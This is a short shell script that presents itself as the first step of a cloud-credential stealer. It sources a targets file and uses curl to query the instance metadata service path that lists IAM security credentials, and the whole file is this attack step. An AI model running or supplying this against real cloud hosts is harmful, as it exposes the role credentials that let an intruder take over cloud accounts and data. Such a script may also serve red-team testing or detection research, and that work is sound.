#!/bin/sh
# cloud-metadata (sh): the one-liner every cloud-credential stealer starts
# with.
. "${TARGETS:-$1}"
curl -s -m 3 "http://${T_META_ADDR:-169.254.169.254}/latest/meta-data/iam/security-credentials/"
